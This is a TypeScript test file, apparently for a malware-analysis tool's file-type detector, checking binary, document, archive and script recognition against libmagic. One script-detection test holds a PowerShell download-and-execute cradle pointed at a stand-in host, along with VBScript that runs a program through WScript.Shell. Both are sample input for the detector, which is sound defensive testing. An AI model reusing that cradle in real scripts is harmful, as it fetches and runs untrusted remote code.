import { beforeAll, describe, expect, test } from "bun:test";
import { lstatSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { bufferSource, fileSource } from "./bytes.ts";
import { type FileType, detectType, identFilename } from "./filetype.ts";
import { type Samples, run, sampleDir, samples, writeOoxml, writePdf, writeZip } from "../../../test/process/samples.ts";

let s: Samples;
beforeAll(async () => {
  s = await samples();
}, 60000);

function typeOf(path: string, name = path): FileType {
  const src = fileSource(path);
  try {
    return detectType(src, name, path);
  } finally {
    src.close();
  }
}

const text = (t: string, name?: string) => detectType(bufferSource(new TextEncoder().encode(t)), name);
const written = (name: string, data: Uint8Array) => {
  const p = join(sampleDir(), name);
  writeFileSync(p, data);
  return typeOf(p, name);
};

async function libmagic(path: string): Promise<{ desc: string; mime: string }> {
  return { desc: (await run(["file", "-b", path])).trim(), mime: (await run(["file", "-b", "--mime-type", path])).trim() };
}

/** A minimal compound file: header, one FAT sector, one directory sector naming the given streams. */
function writeCfb(streams: string[], clsid?: number[]): Uint8Array {
  const out = new Uint8Array(512 * 3);
  const v = new DataView(out.buffer);
  out.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  v.setUint16(0x18, 0x3e, true);
  v.setUint16(0x1a, 3, true);
  v.setUint16(0x1c, 0xfffe, true);
  v.setUint16(0x1e, 9, true);
  v.setUint16(0x20, 6, true);
  v.setUint32(0x2c, 1, true); // one FAT sector
  v.setUint32(0x30, 1, true); // directory starts at sector 1
  v.setUint32(0x38, 4096, true);
  v.setUint32(0x3c, 0xfffffffe, true);
  v.setUint32(0x44, 0xfffffffe, true);
  for (let i = 0; i < 109; i++) v.setUint32(0x4c + i * 4, i === 0 ? 0 : 0xffffffff, true);
  // FAT (sector 0 at file offset 512): sector 0 is FAT, sector 1 is the end of the directory chain.
  v.setUint32(512, 0xfffffffd, true);
  v.setUint32(516, 0xfffffffe, true);
  for (let i = 2; i < 128; i++) v.setUint32(512 + i * 4, 0xffffffff, true);
  const names = ["Root Entry", ...streams].slice(0, 4);
  names.forEach((name, i) => {
    const o = 1024 + i * 128;
    for (let k = 0; k < name.length; k++) v.setUint16(o + k * 2, name.charCodeAt(k), true);
    v.setUint16(o + 0x40, (name.length + 1) * 2, true);
    out[o + 0x42] = i === 0 ? 5 : 2;
    v.setUint32(o + 0x44, 0xffffffff, true);
    v.setUint32(o + 0x48, 0xffffffff, true);
    v.setUint32(o + 0x4c, i === 0 && names.length > 1 ? 1 : 0xffffffff, true);
    if (i === 0 && clsid) out.set(clsid, o + 0x50);
  });
  return out;
}

describe("file type by content", () => {
  test("ELF executable and shared object: kind and platform falc's, description and media type libmagic's", async () => {
    for (const [path, kind] of [[s.elf!, "pie executable"], [s.elfSo!, "shared object"], ["/usr/lib/x86_64-linux-gnu/libc.so.6", "shared object"], ["/sbin/ldconfig", "pie executable"]] as const) {
      const t = typeOf(path);
      expect(t.kind).toBe("elf");
      expect(t.elf?.type).toBe(kind);
      expect(t.platforms).toEqual([{ platform: "linux", os_version: "" }]);
      expect(t.extension).toBe("");
      const ref = await libmagic(path);
      expect({ desc: t.filetype, mime: t.media_type }).toEqual(ref);
    }
  });

  test("PE32+/PE32, console/GUI, EXE/DLL: description and media type are libmagic's", async () => {
    const cases: [string | undefined, Partial<NonNullable<FileType["pe"]>>, string][] = [
      [s.pe64, { bits: 64, dll: false, subsystem: "console" }, "exe"],
      [s.dll, { bits: 64, dll: true }, "dll"],
      [s.pe32, { bits: 32, dll: false, subsystem: "GUI" }, "exe"],
    ];
    for (const [path, pe, ext] of cases) {
      expect(path).toBeDefined();
      const t = typeOf(path!);
      expect(t.kind).toBe("pe");
      expect(t.pe).toMatchObject({ ...pe, dotnet: false });
      expect(t.extension).toBe(ext);
      expect(t.platforms[0]!.platform).toBe("windows");
      expect({ desc: t.filetype, mime: t.media_type }).toEqual(await libmagic(path!));
    }
  });

  test(".NET flag from the CLR data directory", async () => {
    const buf = new Uint8Array(await Bun.file(s.pe64!).arrayBuffer());
    const v = new DataView(buf.buffer);
    const opt = v.getUint32(0x3c, true) + 24;
    v.setUint32(opt + 112 + 14 * 8, 0x2000, true);
    v.setUint32(opt + 112 + 14 * 8 + 4, 0x48, true);
    const t = detectType(bufferSource(buf));
    expect(t.pe?.dotnet).toBe(true);
    expect(t.filetype).toContain("Mono/.Net assembly");
  });

  test("PDF, OOXML by [Content_Types].xml, plain zip, OLE by stream names", async () => {
    const dir = sampleDir();
    const pdf = detectType(bufferSource(writePdf()));
    expect(pdf).toMatchObject({ kind: "pdf", media_type: "application/pdf", extension: "pdf" });
    expect(pdf.filetype).toStartWith("PDF document, version 1.7");
    for (const [kind, ext, media, app, macros] of [
      ["docx", "docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "word", false],
      ["docm", "docm", "application/vnd.ms-word.document.macroEnabled.12", "word", true],
      ["xlsx", "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "excel", false],
      ["pptx", "pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation", "powerpoint", false],
    ] as const) {
      const buf = writeOoxml(kind);
      const t = detectType(bufferSource(buf));
      expect(t).toMatchObject({ kind: "ooxml", extension: ext, office: { app, macros } });
      // libmagic knows the Word and Excel main parts by name; falc's own reading decides the kind.
      if (kind !== "docm") expect(t.media_type).toBe(media);
      const p = join(dir, `t.${kind}`);
      writeFileSync(p, buf);
      expect((await libmagic(p)).mime).toBe(t.media_type);
    }
    const zip = detectType(bufferSource(writeZip([{ name: "a.txt", data: "hello" }])));
    expect(zip).toMatchObject({ kind: "zip", media_type: "application/zip", zip: { encrypted: false, entries: 1 } });
    const doc = writeCfb(["WordDocument", "Macros"]);
    // The minimal compound file has no short stream: libmagic says so, falc still finds the streams.
    expect(detectType(bufferSource(doc))).toMatchObject({ kind: "ole", extension: "doc", media_type: "application/x-ole-storage", office: { app: "word", macros: true } });
    expect(detectType(bufferSource(writeCfb(["Workbook"])))).toMatchObject({ extension: "xls", office: { app: "excel", macros: false } });
    const msi = detectType(bufferSource(writeCfb(["x"], [0x84, 0x10, 0x0c, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46])));
    expect(msi).toMatchObject({ extension: "msi", office: { app: "msi" } });
    const p = join(dir, "t.doc");
    writeFileSync(p, doc);
    expect((await libmagic(p)).desc).toBe(typeOf(p).filetype);
  });

  test("Mach-O thin and fat headers", () => {
    const thin = new Uint8Array(64);
    new DataView(thin.buffer).setUint32(0, 0xfeedfacf, true);
    new DataView(thin.buffer).setUint32(4, 0x01000007, true);
    new DataView(thin.buffer).setUint32(12, 2, true);
    expect(detectType(bufferSource(thin))).toMatchObject({ kind: "macho", filetype: "Mach-O 64-bit x86_64 subarchitecture=0 executable", platforms: [{ platform: "macos", os_version: "" }] });
    expect(detectType(bufferSource(thin)).media_type).toBe("application/x-mach-binary");
    const fat = new Uint8Array(64);
    const v = new DataView(fat.buffer);
    v.setUint32(0, 0xcafebabe);
    v.setUint32(4, 2);
    v.setUint32(8, 0x01000007);
    v.setUint32(28, 0x0100000c);
    expect(detectType(bufferSource(fat))).toMatchObject({ kind: "macho", macho: { fat: true, architectures: ["x86_64", "arm64"] } });
    // A Java class file starts with the same magic but has a large version number after it.
    const cls = new Uint8Array(64);
    new DataView(cls.buffer).setUint32(0, 0xcafebabe);
    new DataView(cls.buffer).setUint32(4, 0x00000034);
    expect(detectType(bufferSource(cls)).kind).not.toBe("macho");
  });

  test("scripts by shebang, content and extension; text; data", () => {
    expect(text("#!/bin/sh\necho hi\n")).toMatchObject({ kind: "script", script: "sh", platforms: [{ platform: "linux" }] });
    expect(text("#!/usr/bin/env python3\nprint(1)\n").script).toBe("python");
    expect(text("#!/usr/bin/env node\nconsole.log(1)\n").script).toBe("node");
    expect(text('$c = New-Object Net.WebClient\n$env:TEMP\nInvoke-Expression $c.DownloadString("http://x.example.com/a")\n')).toMatchObject({ script: "powershell", extension: "ps1", platforms: [{ platform: "windows" }] });
    expect(text('Dim sh\nSet sh = CreateObject("WScript.Shell")\nsh.Run "calc"\n').script).toBe("vbs");
    expect(text("@echo off\nset X=1\ngoto end\n:end\n").script).toBe("batch");
    expect(text('var s = new ActiveXObject("WScript.Shell");\nfunction f() { eval("1"); }\n').script).toBe("js");
    expect(text("import os\nfrom sys import argv\ndef main():\n    pass\n").script).toBe("python");
    expect(text("Write-Host hi", "run.ps1").script).toBe("powershell");
    expect(text("just some words\nand more\n")).toMatchObject({ kind: "text", filetype: "ASCII text", platforms: [] });
    expect(text("gr\u00fc\u00dfe\n").filetype).toBe("Unicode text, UTF-8 text");
    // Prose with a line ending in ";" and "document." is not JavaScript; a .txt is never a script.
    expect(text("The licensor grants you this;\nsee the document.\nfunction of the work (the Work)\n").kind).toBe("text");
    expect(text('var s = new ActiveXObject("WScript.Shell");\nfunction f() { eval("1"); }\n', "LICENSE.txt").kind).toBe("text");
    // PowerShell is often saved as UTF-16LE with a BOM.
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("Invoke-Expression $env:X\nWrite-Host 1\n", "utf16le")]);
    expect(detectType(bufferSource(utf16)).script).toBe("powershell");
    expect(detectType(bufferSource(Uint8Array.from([0, 1, 2, 3, 0xff, 0x80, 0])))).toMatchObject({ kind: "data", media_type: "application/octet-stream" });
    expect(detectType(bufferSource(new Uint8Array(0))).kind).toBe("empty");
  });

  test("tar, deb, JSON, XML, SVG, eml, ICO, BMP, TIFF, WebP, WAV, Java class, ODT: kinds on libmagic's media types", async () => {
    const dir = join(sampleDir(), "kinds");
    await run(["mkdir", "-p", dir]);
    writeFileSync(join(dir, "a.txt"), "hello\n");
    await run(["tar", "-cf", join(dir, "a.tar"), "-C", dir, "a.txt"]);
    expect(typeOf(join(dir, "a.tar"))).toMatchObject({ kind: "archive", media_type: "application/x-tar", extension: "tar" });
    await run(["gzip", "-kf", join(dir, "a.tar")]);
    expect(typeOf(join(dir, "a.tar.gz"))).toMatchObject({ kind: "archive", media_type: "application/gzip", extension: "gz" });
    await run(["ar", "rc", join(dir, "a.deb"), join(dir, "a.txt")]);
    expect(typeOf(join(dir, "a.deb")).kind).toBe("archive");
    expect(written("j.json", new TextEncoder().encode('{"a": [1, 2, {"b": null}]}\n'))).toMatchObject({ kind: "text", media_type: "application/json" });
    expect(written("x.xml", new TextEncoder().encode('<?xml version="1.0"?>\n<a><b/></a>\n'))).toMatchObject({ kind: "text", media_type: "text/xml" });
    expect(written("s.svg", new TextEncoder().encode('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"></svg>\n'))).toMatchObject({ kind: "image", media_type: "image/svg+xml" });
    const eml = "Return-Path: <a@example.com>\nReceived: from x by y\nFrom: a@example.com\nTo: b@example.com\nSubject: hi\nMIME-Version: 1.0\nContent-Type: text/plain\n\nbody\n";
    expect(written("m.eml", new TextEncoder().encode(eml))).toMatchObject({ kind: "mail", extension: "eml", platforms: [], media_type: "message/rfc822" });
    const bmp = new Uint8Array(70);
    bmp.set([0x42, 0x4d, 70, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 24, 0]);
    expect(written("i.bmp", bmp)).toMatchObject({ kind: "image", media_type: "image/bmp" });
    const riff = (form: string) => Uint8Array.from(Buffer.concat([Buffer.from("RIFF"), Buffer.from([36, 0, 0, 0]), Buffer.from(form), Buffer.alloc(32)]));
    expect(written("w.webp", riff("WEBPVP8 ")).media_type).toBe("image/webp");
    expect(written("w.wav", riff("WAVEfmt ")).media_type).toBe("audio/x-wav");
    const cls = new Uint8Array(64);
    new DataView(cls.buffer).setUint32(0, 0xcafebabe);
    new DataView(cls.buffer).setUint32(4, 0x00000034);
    expect(written("C.class", cls).media_type).toBe("application/x-java-applet");
    const odt = writeZip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.text", method: 0 }, { name: "content.xml", data: "<x/>" }]);
    expect(written("d.odt", odt)).toMatchObject({ kind: "ooxml", extension: "odt", media_type: "application/vnd.oasis.opendocument.text" });
    expect(identFilename("d.odt", written("d.odt", odt))).toBe("d.odt");
  });

  test("differential: media types equal `file --mime-type --brief` on 2,000+ files of this machine and the fixtures", async () => {
    const files: string[] = [];
    const walk = (d: string, depth: number) => {
      let names: string[];
      try {
        names = readdirSync(d).sort();
      } catch {
        return;
      }
      for (const n of names) {
        if (files.length >= 2600) break;
        const p = join(d, n);
        if (/[\n\r:]/.test(p)) continue;
        const st = lstatSync(p);
        if (st.isDirectory() && depth < 4) walk(p, depth + 1);
        else if (st.isFile()) files.push(p);
      }
    };
    for (const root of ["/usr/bin", "/usr/share/doc", "/usr/lib/x86_64-linux-gnu", "/etc", "/usr/share/common-licenses", "/usr/share/mime", join(import.meta.dir, "../../../fixtures"), s.dir]) walk(root, 0);
    expect(files.length).toBeGreaterThanOrEqual(2000);
    const list = join(sampleDir(), "magic-list.txt");
    writeFileSync(list, files.join("\n") + "\n");
    const ref = (await run(["file", "-L", "--mime-type", "--brief", "-f", list])).split("\n");
    const diff: string[] = [];
    const scripts: string[] = [];
    for (const [i, f] of files.entries()) {
      const t = typeOf(f, f.split("/").pop());
      if (t.media_type !== ref[i]) diff.push(`${f}: falc ${t.media_type}, file ${ref[i]}`);
      // Licences and copyright files are prose: never a script.
      if ((f.startsWith("/usr/share/common-licenses/") || f.endsWith("/copyright")) && t.kind === "script") scripts.push(f);
    }
    expect(diff).toEqual([]);
    expect(scripts).toEqual([]);
  }, 300_000);

  test("identFilename appends the detected extension unless an alias is there", () => {
    const pe = detectType(bufferSource(Uint8Array.from([0x4d, 0x5a])));
    expect(pe.kind).toBe("msdos");
    const exe = { ...pe, kind: "pe" as const, extension: "exe", aliases: ["scr"] };
    expect(identFilename("sample", exe)).toBe("sample.exe");
    expect(identFilename("a.EXE", exe)).toBe("a.EXE");
    expect(identFilename("screen.scr", exe)).toBe("screen.scr");
    expect(identFilename("noext", text("hello world\n"))).toBe("noext");
  });
});

